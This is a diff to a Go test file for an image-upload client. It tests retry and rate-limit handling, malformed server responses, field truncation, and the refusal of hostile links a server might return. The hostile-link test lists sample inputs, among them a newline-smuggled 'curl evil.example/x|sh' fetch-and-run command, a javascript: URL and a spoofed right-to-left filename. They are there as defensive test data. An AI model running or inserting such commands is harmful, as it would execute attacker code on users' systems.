@@ -11,6 +11,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode/utf8"
 
 	"imagecx/uploader"
 	"imagecx/uploader/cxtest"
@@ -175,10 +176,12 @@ func TestUploadErrors(t *testing.T) {
 		{"disabled format", []cxtest.Fault{cxtest.APIError(614, "Disabled image format (bmp)")}, "", uploader.ErrUnsupported, 1, false, "not accepted"},
 		{"duplicate", []cxtest.Fault{cxtest.APIError(101, "Duplicated upload")}, "", uploader.ErrDuplicate, 1, false, "duplicate"},
 		{"html 502 every time", []cxtest.Fault{cxtest.HTML502, cxtest.HTML502, cxtest.HTML502}, "", uploader.ErrServer, 3, true, "server failed"},
-		{"flood every time", []cxtest.Fault{cxtest.Flood, cxtest.Flood, cxtest.Flood}, "", uploader.ErrRateLimited, 3, true, "rate limited"},
+		{"flood: wait, not again now", []cxtest.Fault{cxtest.Flood, cxtest.Flood, cxtest.Flood}, "", uploader.ErrRateLimited, 1, true, "rate limited"},
 		{"storage every time", []cxtest.Fault{cxtest.Storage, cxtest.Storage, cxtest.Storage}, "", uploader.ErrServer, 3, true, "storage"},
 		{"429 every time", []cxtest.Fault{cxtest.TooMany429(0), cxtest.TooMany429(0), cxtest.TooMany429(0)}, "", uploader.ErrRateLimited, 3, true, "429"},
-		{"reset every time", []cxtest.Fault{cxtest.Reset, cxtest.Reset, cxtest.Reset}, "", uploader.ErrNetwork, 3, true, "reach"},
+		{"reset after the upload was sent", []cxtest.Fault{cxtest.Reset, cxtest.Reset, cxtest.Reset}, "", uploader.ErrNetwork, 1, false, "may have arrived"},
+		{"empty 200", []cxtest.Fault{cxtest.EmptyOK}, "", uploader.ErrBadResponse, 1, false, "empty answer (http 200)"},
+		{"garbage json", []cxtest.Fault{cxtest.GarbageJSON}, "", uploader.ErrBadResponse, 1, false, "not valid json (http 200, application/json)"},
 		{"404: wrong endpoint", []cxtest.Fault{cxtest.Status(404)}, "", uploader.ErrEndpoint, 1, false, "endpoint"},
 	}
 	for _, tc := range cases {
@@ -215,7 +218,7 @@ func TestUploadErrors(t *testing.T) {
 }
 
 func TestTransientThenSuccessUploadsOnce(t *testing.T) {
-	for _, f := range []cxtest.Fault{cxtest.Unavailable503, cxtest.HTML502, cxtest.Flood, cxtest.Reset, cxtest.TooMany429(0)} {
+	for _, f := range []cxtest.Fault{cxtest.Unavailable503, cxtest.HTML502, cxtest.TooMany429(0), cxtest.Storage} {
 		srv, c := setup(t, cxtest.Config{})
 		srv.Script(f)
 		res, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{})
@@ -231,22 +234,54 @@ func TestTransientThenSuccessUploadsOnce(t *testing.T) {
 	}
 }
 
-func TestHangTimesOutAndRetries(t *testing.T) {
-	srv, c := setup(t, cxtest.Config{}, uploader.WithTimeout(150*time.Millisecond))
-	srv.Script(cxtest.Hang, cxtest.Hang, cxtest.Hang)
-	_, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{})
-	if !errors.Is(err, uploader.ErrNetwork) || !uploader.IsTemporary(err) {
-		t.Fatalf("err = %v", err)
-	}
-	if !strings.Contains(err.Error(), "no answer") {
-		t.Errorf("message %q should say the server did not answer", err)
-	}
-	if n := len(srv.Requests()); n != 3 {
-		t.Errorf("requests = %d, want 3", n)
-	}
-	// The next upload works.
-	if _, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{}); err != nil {
+// A connection cut while the upload is still being sent cannot have
+// stored it: that is sent again.
+func TestResetWhileSendingIsSentAgain(t *testing.T) {
+	// Far more than loopback's socket buffers hold, so the reset comes
+	// while the body is still being written.
+	srv, c := setup(t, cxtest.Config{MaxSize: 64 << 20}, uploader.WithMaxSize(64<<20))
+	srv.Script(cxtest.ResetEarly)
+	big := append([]byte("\x89PNG\r\n\x1a\n"), bytes.Repeat([]byte("imagecx!"), 40<<20/8)...)
+	if _, err := c.Upload(context.Background(), "a.png", big, uploader.Options{}); err != nil {
 		t.Fatal(err)
+	}
+	if n, s := len(srv.Requests()), len(srv.Stored()); n != 2 || s != 1 {
+		t.Errorf("requests = %d, stored %d; want 2 and 1", n, s)
+	}
+	// Every time: the error says the connection was cut, in words.
+	srv.Script(cxtest.ResetEarly, cxtest.ResetEarly, cxtest.ResetEarly)
+	_, err := c.Upload(context.Background(), "a.png", big, uploader.Options{})
+	var e *uploader.Error
+	if !errors.As(err, &e) || e.Unanswered || !e.Temporary() {
+		t.Fatalf("err = %#v", err)
+	}
+	if got := e.Explain(); !strings.Contains(got, "the connection was cut") || strings.Contains(got, "closed network") {
+		t.Errorf("explained as %q", got)
+	}
+}
+
+// An answer that is cut off after the server stored the upload, and a
+// server that never answers once it has the upload: not sent again,
+// which would store a second copy.
+func TestMaybeStoredIsNotSentAgain(t *testing.T) {
+	for _, f := range []cxtest.Fault{cxtest.CutOff, cxtest.Hang} {
+		srv, c := setup(t, cxtest.Config{}, uploader.WithTimeout(300*time.Millisecond))
+		srv.Script(f)
+		_, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{})
+		var e *uploader.Error
+		if !errors.As(err, &e) || !errors.Is(err, uploader.ErrNetwork) || !e.Unanswered || uploader.IsTemporary(err) {
+			t.Fatalf("%v: err = %v", f, err)
+		}
+		if n := len(srv.Requests()); n != 1 {
+			t.Errorf("%v: requests = %d, want 1", f, n)
+		}
+		if !strings.Contains(e.Explain(), "may have arrived") {
+			t.Errorf("%v: explained as %q", f, e.Explain())
+		}
+		// The next upload works.
+		if _, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{}); err != nil {
+			t.Fatal(err)
+		}
 	}
 }
 
@@ -276,15 +311,32 @@ func TestCancelStopsAHungUpload(t *testing.T) {
 	}
 }
 
-func TestRetryAfterIsHonouredWithinTheCap(t *testing.T) {
-	srv, c := setup(t, cxtest.Config{}, uploader.WithRetry(uploader.Retry{Attempts: 2, Base: time.Millisecond, Max: 300 * time.Millisecond, MaxElapsed: 10 * time.Second}))
-	srv.Script(cxtest.TooMany429(60))
+func TestRetryAfter(t *testing.T) {
+	// A short wait is waited out.
+	srv, c := setup(t, cxtest.Config{}, uploader.WithRetry(uploader.Retry{Attempts: 2, Base: time.Millisecond, Max: 3 * time.Second, MaxElapsed: 10 * time.Second}))
+	srv.Script(cxtest.TooMany429(1))
+	start := time.Now()
 	if _, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{}); err != nil {
 		t.Fatal(err)
 	}
-	// Retry-After 60 s was capped to Max: the test finishing at all shows it.
-	if n := len(srv.Requests()); n != 2 {
-		t.Errorf("requests = %d", n)
+	if n := len(srv.Requests()); n != 2 || time.Since(start) < time.Second {
+		t.Errorf("requests = %d after %v; want 2 after Retry-After's second", n, time.Since(start))
+	}
+	// A long one is not waited out now, and not cut short: the error
+	// says how long the site asks to wait.
+	for _, tc := range []struct {
+		f    cxtest.Fault
+		want time.Duration
+	}{{cxtest.TooMany429(3600), time.Hour}, {cxtest.Flood, time.Minute}, {cxtest.APIError(130, "Flooding detected. You can only upload 30 images per hour"), time.Hour}} {
+		srv.Script(tc.f)
+		before := len(srv.Requests())
+		_, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{})
+		if !errors.Is(err, uploader.ErrRateLimited) || uploader.RetryAfter(err) != tc.want || !uploader.IsTemporary(err) {
+			t.Errorf("%v: err = %v, RetryAfter %v", tc.f, err, uploader.RetryAfter(err))
+		}
+		if n := len(srv.Requests()) - before; n != 1 {
+			t.Errorf("%v: %d requests, want 1", tc.f, n)
+		}
 	}
 }
 
@@ -377,5 +429,53 @@ func TestEndpoints(t *testing.T) {
 	u, _ := uploader.ParseEndpoint("https://image.cx/")
 	if u.String() != "https://image.cx" {
 		t.Errorf("trailing slash kept: %s", u)
+	}
+}
+
+// A server that hands out something other than one plain link: nothing of
+// it reaches the clipboard, a notification or the history.
+func TestHostileLinksAreRefused(t *testing.T) {
+	srv, c := setup(t, cxtest.Config{})
+	for _, link := range []string{
+		"https://x.example/a.png\ncurl evil.example/x|sh #",
+		"javascript:alert(1)",
+		"https://x.example/" + strings.Repeat("a", 900<<10),
+		"http://x.example/a.png",
+		"https://user:pw@x.example/a.png",
+		"https://x.example/a\u202egnp.exe",
+		"https://x.example/a b.png",
+		"//x.example/a.png",
+		"https:",
+	} {
+		srv.Script(cxtest.Link(link))
+		res, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{})
+		if !errors.Is(err, uploader.ErrBadResponse) {
+			t.Errorf("%.40q: res %+v, err %v", link, res, err)
+			continue
+		}
+		if strings.Contains(err.Error(), "evil") || len(err.Error()) > 300 {
+			t.Errorf("%.40q: the error repeats the link: %.100q", link, err)
+		}
+	}
+	// Loopback http is a link (this server's own).
+	if _, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{}); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// What is sent is bounded, whatever a title template or a setting makes
+// of it: the site keeps 100 characters of a title.
+func TestLongFieldsAreCut(t *testing.T) {
+	srv, c := setup(t, cxtest.Config{})
+	title := strings.Repeat("é", 20<<20/2)
+	if _, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{Title: title, Description: title, Tags: []string{title}}); err != nil {
+		t.Fatal(err)
+	}
+	got := srv.Requests()[0].Fields
+	if n := len([]rune(got["title"][0])); n != 100 || !utf8.ValidString(got["title"][0]) {
+		t.Errorf("title of %d characters sent", n)
+	}
+	if n := len(got["description"][0]) + len(got["tags"][0]); n > 20000 {
+		t.Errorf("description and tags of %d bytes sent", n)
 	}
 }
